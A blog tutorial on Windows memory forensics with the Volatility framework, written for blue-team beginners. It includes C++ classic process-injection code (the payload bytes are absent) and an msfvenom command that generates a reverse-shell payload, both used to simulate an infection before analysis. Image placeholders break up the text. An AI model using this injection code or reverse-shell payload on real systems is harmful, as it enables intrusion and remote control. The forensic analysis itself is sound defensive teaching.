3 minute read

Hello, cybersecurity enthusiasts and white hackers!


This is a result of my own research on memory forensics via the Volatility Framework.

memory forensics

Sometimes, after a system has been pwned, it’s important to extract forensically-relevant information. RAM is considered volatile - meaning that it doesn’t live long. Each time a computer is restarted, it flushes its memory from RAM, which means that, if a computer is hacked and then is restarted, you’ll lose a lot of information that tells the story about how the system was compromised by attacker.

volatility Framework

Volatility is a tool that can be used to analyze the volatile memory of a system. Download and install from herepractice example

First of all, for simulating malware activity, create classic process injection malware:

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <windows.h>

// meow-meow messagebox payload (without encryption)
unsigned char my_payload[] =

unsigned int my_payload_len = sizeof(my_payload);

int main(int argc, char* argv[]) {
  HANDLE ph; // process handle
  HANDLE rt; // remote thread
  PVOID rb; // remote buffer

  // parse process ID
  printf("PID: %i", atoi(argv[1]));
  ph = OpenProcess(PROCESS_ALL_ACCESS, FALSE, DWORD(atoi(argv[1])));

  // allocate memory buffer for remote process
  rb = VirtualAllocEx(ph, NULL, my_payload_len, (MEM_RESERVE | MEM_COMMIT), PAGE_EXECUTE_READWRITE);

  // "copy" data between processes
  WriteProcessMemory(ph, rb, my_payload, my_payload_len, NULL);// our process start new thread
  rt = CreateRemoteThread(ph, NULL, 0, (LPTHREAD_START_ROUTINE)rb, NULL, 0, NULL);
  return 0;


x86_64-w64-mingw32-g++ hack.cpp -o hack.exe -mconsole -I/usr/share/mingw-w64/include/ -s -ffunction-sections -fdata-sections -Wno-write-strings -Wint-to-pointer-cast -fno-exceptions -fmerge-all-constants -static-libstdc++ -static-libgcc -fpermissive

injection 2

and run:

.\hack.exe 2380

injection 3

As you can see, everything is work perfectly.


Secondly, after run our malicious activity, I downloaded winpmem into victim’s Windows 7 x64 machine. So, run:

>.\winpmem_v3.3.rc3.exe --output mem.raw --format raw --volume_format raw

injection 4

After finished, move mem.raw file to my attacker’s kali machine.

analyzing Windows memory

obtaining OS

Obtaining the operating system of the memory dump is pretty easy. The pluginwindows.info.Info can be specified to enumerate information about the captured memory dump:

python3 ./volatility3/vol.py -f ./cybersec_blog/2022-02-07-mem-forensics-1/dump/mem.rawwindows.info.Info

injection 5

analysing processes

Then, I used the windows.pslist.PsList plugin to look at the processes that were running on the victim’s computer at the time the memory was captured:

python3 ./volatility3/vol.py -f ./cybersec_blog/2022-02-07-mem-forensics-1/dump/mem.raw windows.pslist.PsList

injection 6
injection 7

Looking at the list, PID 2380 is mspaint.exe, which is our victim process.

process injected code

Then forfinding hidden and injected code, run:

python3 ./volatility3/vol.py -f ./cybersec_blog/2022-02-07-mem-forensics-1/dump/mem.raw windows.malfind.Malfind

injection 8

injection 9

As you can see, we found memory section which we injected our meow-meow payload.

Then, dump the process memory with windows.memmap.Memmap plugin:

python3 ./volatility3/vol.py -f ./cybersec_blog/2022-02-07-mem-forensics-1/dump/mem.raw --output-dir ./cybersec_blog/2022-02-07-mem-forensics-1/dump/ windows.memmap.Memmap --pid 2380 --dumpinjection 10

finding strings

The strings command is a popular static malware analysis tool that can quickly assist in extracting human-readable pertaining to a malicious file:

strings -e l ./cybersec_blog/2022-02-07-mem-forensics-1/dump/pid.2380.dmp | grep -ie "meow-meow"

injection 11

injection 12

network connections

Next, I tested a scenario in which a malware or an attacker injects code into an already running process, and only then initiates a connection. Let’s go to replace our payload in malware example as msfvenom reverse shell for demo:msfvenom -p windows/x64/shell_reverse_tcp LHOST= LPORT=4444 EXITFUNC=thread -f c

injection 13

injection 14

For the correctness of the experiment, we will launch our malware and make a memory dump:

injection 15

injection 16

Then run Volatility withwindows.netstat.NetStat plugin. This plugin allows you to see the network connections on the machine at the time the memory wascaptured:

python3 ./volatility3/vol.py -f ./cybersec_blog/2022-02-07-mem-forensics-1/dump/mem.raw windows.netstat.NetStat | grep -ie "mspaint.exe"

injection 17


There are still a ton of other plugins that are currently available that I did not mention in this tutorial and the memory sample I were analyzing was a Windows memory dump, because I did not work with the different plugins that target the Linux and Mac operating systems.

I hope this post will be very helpful for entry level cybersec specialists from blue team.

Classic code injection technique

This is a practical case foreducational purposes only.

Thanksfor your time happy hackingand good bye!
PS. Alldrawings and screenshots are mine